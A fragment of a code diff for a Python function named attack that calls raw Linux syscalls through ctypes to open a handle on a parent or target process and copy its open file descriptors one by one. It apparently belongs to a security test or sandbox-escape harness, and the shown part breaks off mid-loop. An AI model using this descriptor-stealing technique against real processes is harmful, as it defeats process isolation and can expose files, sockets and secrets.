@@ -6,7 +6,7 @@ import os
 
 def attack(world):
     library = ctypes.CDLL(None, use_errno=True)
-    parent = library.syscall(434, os.getppid(), 0)
+    parent = library.syscall(434, world["parent"], 0)
     found = []
     for number in range(3, 64):
         stolen = library.syscall(438, parent, number, 0)
